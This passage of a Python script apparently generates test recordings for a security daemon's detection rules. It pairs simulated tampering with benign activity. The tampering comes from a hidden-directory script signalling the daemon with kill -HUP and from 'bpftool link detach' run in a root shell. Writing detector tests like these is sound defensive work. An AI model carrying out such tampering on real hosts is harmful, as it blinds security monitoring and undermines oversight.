    init, daemon = spyderd_and_init(neg)
    signal_spyderd(neg, init, daemon, 15)
    return pos, neg


@scenario("Signal aimed at spyderd")
def _spyderd_signal() -> tuple[Rec, Rec]:
    rule = "Signal aimed at spyderd"
    pos = Rec(rule, True, "kill -HUP on spyderd by hand, from a script")
    _, daemon = spyderd_and_init(pos)
    sh = pos.spawn(login_shell(pos), "/bin/sh", ["sh", "/var/tmp/.x/run.sh"])
    signal_spyderd(pos, sh, daemon, 1)
    neg = Rec(rule, False, "spyderctl reload (SIGHUP) under systemctl reload; systemctl "
              "stop (SIGTERM from PID 1, another rule's business)")
    init, daemon = spyderd_and_init(neg)
    ctl = neg.spawn(init, "/usr/local/sbin/spyderctl", ["spyderctl", "reload"])
    signal_spyderd(neg, ctl, daemon, 1)
    signal_spyderd(neg, init, daemon, 15)
    return pos, neg


@scenario("BPF program detached or link replaced")
def _bpf_detach() -> tuple[Rec, Rec]:
    rule = "BPF program detached or link replaced"
    pos = Rec(rule, True, "bpftool link detach id 42 from a root shell")
    tool = pos.spawn(login_shell(pos), "/usr/sbin/bpftool", ["bpftool", "link", "detach",
                                                              "id", "42"])
    pos.kernel(tool, "bpf", request=34, flags=3, result=0)
    neg = Rec(rule, False, "systemd detaches a unit's cgroup program, runc swaps a device "
              "filter, bpftool loads a program")
    init, _ = spyderd_and_init(neg)
    neg.kernel(init, "bpf", request=9, flags=27)
    shim = neg.running("/usr/bin/containerd-shim-runc-v2", ["containerd-shim-runc-v2"])
    runc = neg.spawn(shim, "/usr/sbin/runc", ["runc", "update", "web"])
    neg.kernel(runc, "bpf", request=9, flags=5)
    tool = neg.spawn(login_shell(neg), "/usr/sbin/bpftool", ["bpftool", "prog", "load",
                                                             "x.o", "/sys/fs/bpf/x"])
    neg.kernel(tool, "bpf", request=5, flags=1, name="x")
    return pos, neg


def slug(rule: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", rule.lower()).strip("-")


def render() -> dict[str, str]:
    """File name -> content of every example file."""
    out: dict[str, str] = {}
    for rule, fn in SCENARIOS.items():
        pos, neg = fn()
        for rec, suffix in ((pos, "pos"), (neg, "neg")):
            text = "".join(json.dumps(line, separators=(",", ":")) + "\n" for line in rec.lines())
            out[f"{slug(rule)}.{suffix}.jsonl"] = text
    return out


def main() -> None:
    for old in HERE.glob("*.jsonl"):
        old.unlink()
    for name, text in render().items():
        (HERE / name).write_text(text, encoding="utf-8")
    print(f"wrote {len(SCENARIOS) * 2} example recordings to {HERE}")


if __name__ == "__main__":
    main()
